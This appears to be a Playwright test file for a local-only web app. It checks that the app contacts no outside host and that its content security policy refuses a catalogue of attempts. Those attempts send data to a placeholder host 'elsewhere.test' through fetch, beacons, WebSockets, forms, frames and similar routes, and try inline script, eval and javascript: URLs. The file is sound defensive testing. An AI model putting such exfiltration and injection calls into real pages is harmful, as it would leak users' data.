// Nothing leaves the device: what the browser asks anybody for is recorded below the page, where nothing can hide, and
// what the page tries against its policy is refused.
import { createServer } from "node:http";
import { readdir, readFile } from "node:fs/promises";
import { test as base } from "@playwright/test";
import { priceUndercut } from "../answers.mjs";
import { serve } from "../server.mjs";
import { expect, fillAnswer, handIn, passReview } from "../support.mjs";

const DIST = new URL("../../../dist/", import.meta.url);
const NEUTRAL = new URL("../../packs/neutral.json", import.meta.url);

/** A journey whose browser reaches every address but its own host through a proxy that lets nothing through and writes all down. */
const test = base.extend({
  outside: async ({}, use) => {
    const asked = [];
    // Chromium itself asks its maker which fields of a form it could fill in, whatever the page is. No page can tell it not to.
    const note = (url) => url !== "content-autofill.googleapis.com:443" && asked.push(url);
    const proxy = createServer((request, response) => {
      note(request.url);
      response.writeHead(502).end();
    });
    proxy.on("connect", (request, socket) => {
      note(request.url);
      socket.destroy();
    });
    await new Promise((resolve) => proxy.listen(0, "127.0.0.1", resolve));
    await use({ asked, server: `http://127.0.0.1:${proxy.address().port}` });
    proxy.closeAllConnections();
    await new Promise((resolve) => proxy.close(resolve));
  },
  proxy: async ({ outside }, use) => use({ server: outside.server, bypass: "127.0.0.1" }),
  home: async ({}, use) => {
    const asked = [];
    const host = await serve(0, undefined, (name) => void asked.push(name));
    await use({ ...host, asked });
    await host.stop();
  },
});

test("from the first answer to the export nobody is asked for anything, but the bundle's own host for the bundle's own files", async ({ page, context, home, outside }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const own = new Set((await readdir(DIST, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).map((entry) => entry.name));
  const requests = [];
  context.on("request", (request) => requests.push(request.url()));
  context.on("page", () => requests.push("a window"));
  page.on("websocket", (socket) => requests.push(socket.url()));
  const wire = await context.newCDPSession(page);
  await wire.send("Network.enable");
  for (const event of ["Network.requestWillBeSent", "Network.webSocketCreated", "Network.webTransportCreated"]) {
    wire.on(event, (sent) => requests.push(sent.request?.url ?? sent.url));
  }

  await page.goto(`${home.url}#/scenario/price-undercut`);
  await page.evaluate(async () => {
    const { active } = await navigator.serviceWorker.ready;
    if (active.state !== "activated") await new Promise((resolve) => active.addEventListener("statechange", resolve, { once: true }));
  });
  await page.reload();
  await expect(page.getByRole("link", { name: "Begin your answer" })).toBeVisible();
  const atLoad = { asked: home.asked.splice(0), requests: requests.splice(0) };
  expect(atLoad.asked.length).toBeGreaterThan(3);
  expect(atLoad.requests.length).toBeGreaterThan(3);

  // An interview with everything that belongs to it.
  await page.getByRole("link", { name: "Begin your answer" }).click();
  await page.getByRole("button", { name: /a hint/ }).click();
  await fillAnswer(page, priceUndercut);
  await handIn(page);
  await page.getByLabel("Your reply").fill("We hold, because matching costs $12M.");
  await page.getByRole("button", { name: "Reply" }).click();
  await passReview(page);
  const save = (button) => Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).click()]);
  await save("Save as Markdown");
  await save("Save as JSON");
  // A pack comes in from a file and goes out as a link.
  await page.goto(`${home.url}#/packs`);
  await page.getByLabel("Choose files").setInputFiles({ name: "mine.json", mimeType: "application/json", buffer: await readFile(NEUTRAL) });
  await page.getByRole("button", { name: "Add this pack" }).click();
  await page.getByRole("button", { name: "Copy as a link: The village library" }).click();
  await expect(page.getByText("The link is on the clipboard.")).toBeVisible();
  await save("Export: The village library");
  // A drill, and the record.
  await page.goto(`${home.url}#/drills`);
  await page.getByRole("button", { name: "Give me a number" }).click();
  await page.getByLabel(/Your number/).fill("7");
  await page.keyboard.press("Enter");
  await page.goto(`${home.url}#/progress`);
  const [record] = await save("Export everything");
  await save("History as CSV");
  await page.getByLabel("Bring in a record").setInputFiles(await record.path());
  await expect(page.getByText("Everything in that record was here already.")).toBeVisible();

  // What was loaded and what was asked for later: files of the bundle, from where the page came from, without a query.
  const isOwn = (url) => {
    const { protocol, origin, pathname, search } = new URL(url);
    if (protocol === "blob:" || protocol === "data:") return true;
    const name = pathname.split("/").pop();
    return origin === new URL(home.url).origin && search === "" && (name === "" || own.has(name));
  };
  expect(atLoad.requests.filter((url) => !isOwn(url))).toEqual([]);
  expect(requests.filter((url) => url === "a window" || !isOwn(url))).toEqual([]);
  expect(home.asked.filter((name) => !own.has(name.split("/").pop()))).toEqual([]);
  expect(outside.asked).toEqual([]);
  // The proxy would have seen it.
  const elsewhere = await context.newPage();
  await elsewhere.goto("http://elsewhere.test/").catch(() => {});
  expect(outside.asked).toEqual(["http://elsewhere.test/"]);
});

test("whatever the page tries against its policy is refused and told, and nothing gets out", async ({ page, home, outside }) => {
  await page.goto(home.url);
  await expect(page.locator("main#main")).toBeVisible();
  const refused = await page.evaluate(async () => {
    // Without encryption, so that the proxy would see the request itself. For a frame or a form that is refused, Chromium opens
    // a connection to the host before it looks at the policy; nothing goes through it.
    const away = "http://elsewhere.test/?words=mine";
    const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
    const attempts = {
      fetch: () => fetch(away).catch(() => {}),
      "a fetch that does not look at the answer": () => fetch(away, { mode: "no-cors", method: "POST", body: "mine", keepalive: true }).catch(() => {}),
      XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open("POST", away); request.send("mine"); },
      WebSocket: () => new WebSocket("ws://elsewhere.test/"),
      EventSource: () => new EventSource(away),
      beacon: () => navigator.sendBeacon(away, "mine"),
      image: () => { new Image().src = away; },
      "script of another host": () => add("script", { src: away }),
      "inline script": () => add("script", { textContent: "window.hasRun = true" }),
      handler: () => { const link = add("a", {}); link.setAttribute("onclick", "window.hasRun = true"); link.click(); },
      eval: () => { try { (0, eval)("window.hasRun = true"); } catch { /* refused */ } },
      Function: () => { try { new Function("window.hasRun = true")(); } catch { /* refused */ } },
      "script address": () => { const link = add("a", { href: "javascript:window.hasRun = true" }); link.click(); },
      "worker of a blob": () => { try { new Worker(URL.createObjectURL(new Blob(["fetch('/')"]))); } catch { /* refused */ } },
      "style sheet": () => add("link", { rel: "stylesheet", href: away }),
      "inline style": () => add("style", { textContent: `body { background: url(${away}) }` }),
      "style attribute": () => add("p", {}).setAttribute("style", `background: url(${away})`),
      font: () => new FontFace("Away", `url(${away})`).load().catch(() => {}),
      frame: () => add("iframe", { src: away }),
      object: () => add("object", { data: away }),
      sound: () => add("audio", { src: away, preload: "auto" }).load(),
      prefetch: () => add("link", { rel: "prefetch", href: away }),
      preload: () => add("link", { rel: "preload", as: "fetch", href: away, crossOrigin: "anonymous" }),
      base: () => add("base", { href: away }),
      form: () => { const form = add("form", { action: away, method: "post", target: "_self" }); form.submit(); },
    };
    const told = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      // Each from a turn of its own, as the page's own script would do it, and not the tool that drives it.
      told[name] = await new Promise((resolve) => {
        const listen = ({ effectiveDirective, disposition }) => resolve(`${effectiveDirective} ${disposition}`);
        document.addEventListener("securitypolicyviolation", listen, { once: true });
        setTimeout(() => {
          attempt();
          // A refusal is told within a turn or two.
          setTimeout(() => {
            document.removeEventListener("securitypolicyviolation", listen);
            resolve("nobody minded");
          }, 1000);
        });
      });
    }
    return { told, hasRun: window.hasRun === true, isThere: document.querySelector("main#main") !== null };
  });
  expect(refused).toMatchObject({ hasRun: false, isThere: true });
  const expected = {
    fetch: "connect-src",
    "a fetch that does not look at the answer": "connect-src",
    XMLHttpRequest: "connect-src",
    WebSocket: "connect-src",
    EventSource: "connect-src",
    beacon: "connect-src",
    image: "img-src",
    "script of another host": "script-src-elem",
    "inline script": "script-src-elem",
    handler: "script-src-attr",
    eval: "script-src",
    Function: "script-src",
    "script address": "script-src-elem",
    "worker of a blob": "worker-src",
    "style sheet": "style-src-elem",
    "inline style": "style-src-elem",
    "style attribute": "style-src-attr",
    font: "font-src",
    frame: "frame-src",
    object: "object-src",
    sound: "media-src",
    prefetch: "default-src",
    preload: "connect-src",
    base: "base-uri",
    form: "form-action",
  };
  expect(refused.told).toEqual(Object.fromEntries(Object.entries(expected).map(([name, directive]) => [name, `${directive} enforce`])));
  expect(outside.asked).toEqual([]);
});
